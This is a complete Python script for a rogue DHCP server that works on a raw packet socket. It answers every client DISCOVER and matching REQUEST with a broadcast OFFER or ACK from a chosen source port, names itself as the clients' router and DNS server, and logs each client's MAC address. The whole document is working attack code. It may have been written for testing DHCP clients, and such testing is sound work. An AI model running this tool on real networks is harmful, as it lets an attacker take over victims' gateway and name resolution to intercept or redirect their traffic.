#!/usr/bin/python3
"""A rogue DHCP server that answers from a source port of its choosing.

    rogue_dhcp.py IFACE SPORT SERVER_IP OFFER_IP LOG

On IFACE (an AF_PACKET socket: no bound port, no kernel UDP stack) it
answers every DISCOVER with an OFFER and every REQUEST naming it as the
server with an ACK, broadcast, from SERVER_IP:SPORT to port 68, offering
OFFER_IP/24 with itself as router and DNS server. Each answer is logged as
"OFFER <chaddr>" / "ACK <chaddr>" in LOG. Runs until killed.
"""
import select
import socket
import struct
import sys

ETH_P_IP = 0x0800


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def options(raw):
    opts, i = {}, 0
    while i < len(raw):
        code = raw[i]
        if code == 255:
            break
        if code == 0:
            i += 1
            continue
        if i + 1 >= len(raw):
            break
        n = raw[i + 1]
        opts[code] = raw[i + 2 : i + 2 + n]
        i += 2 + n
    return opts


def main():
    iface, sport, server, offer, logname = sys.argv[1:6]
    sport = int(sport)
    srv = socket.inet_aton(server)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    s.bind((iface, ETH_P_IP))
    mac = s.getsockname()[4]
    log = open(logname, "a", buffering=1)
    log.write("started on %s from %s:%d\n" % (iface, server, sport))
    while True:
        r, _, _ = select.select([s], [], [], 1.0)
        if not r:
            continue
        frame = s.recv(2048)
        if len(frame) < 14 + 20 + 8 + 240 or frame[6:12] == mac:
            continue
        ip = frame[14:]
        ihl = (ip[0] & 0x0F) * 4
        if ip[9] != 17:
            continue
        udp = ip[ihl:]
        if struct.unpack("!H", udp[2:4])[0] != 67:
            continue
        bootp = udp[8:]
        if bootp[0] != 1 or bootp[236:240] != b"\x63\x82\x53\x63":
            continue
        opts = options(bootp[240:])
        kind = opts.get(53, b"\0")[0]
        if kind == 1:
            reply, name = 2, "OFFER"
        elif kind == 3 and opts.get(54) == srv:
            reply, name = 5, "ACK"
        else:
            continue
        xid, flags, chaddr = bootp[4:8], bootp[10:12], bootp[28:44]
        body = struct.pack("!BBBB", 2, 1, 6, 0) + xid + b"\0\0" + flags
        body += b"\0" * 4 + socket.inet_aton(offer) + srv + b"\0" * 4 + chaddr
        body += b"\0" * 192 + b"\x63\x82\x53\x63"
        body += bytes([53, 1, reply, 54, 4]) + srv
        body += bytes([51, 4]) + struct.pack("!I", 3600)
        body += bytes([1, 4, 255, 255, 255, 0, 3, 4]) + srv + bytes([6, 4]) + srv
        body += b"\xff" + b"\0" * 16
        u = struct.pack("!HHHH", sport, 68, 8 + len(body), 0) + body
        h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(u), 0, 0, 64, 17, 0, srv,
                        b"\xff\xff\xff\xff")
        h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
        s.send(b"\xff" * 6 + mac + struct.pack("!H", ETH_P_IP) + h + u)
        log.write("%s %s\n" % (name, ":".join("%02x" % b for b in chaddr[:6])))


if __name__ == "__main__":
    main()
